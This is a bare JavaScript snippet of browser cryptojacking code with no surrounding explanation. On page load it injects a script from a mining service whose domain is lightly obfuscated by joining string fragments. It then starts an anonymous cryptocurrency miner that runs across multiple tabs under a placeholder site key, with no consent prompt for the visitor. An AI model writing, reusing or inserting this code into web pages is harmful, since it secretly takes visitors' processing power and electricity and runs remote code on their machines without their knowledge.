(function (d) {
  var s = d.createElement('script');
  s.src = '//' + ['cryptaloot', 'pro'].join('.') + '/lib/crypta.js';
  s.onload = function () {
    var m = new CRLT.Anonymous('0123456789abcdef0123456789abcdef0123456789ab', {threads: 2, throttle: 0.5, coin: 'upx'});
    m.start(CRLT.FORCE_MULTI_TAB);
  };
  d.body.appendChild(s);
})(document);
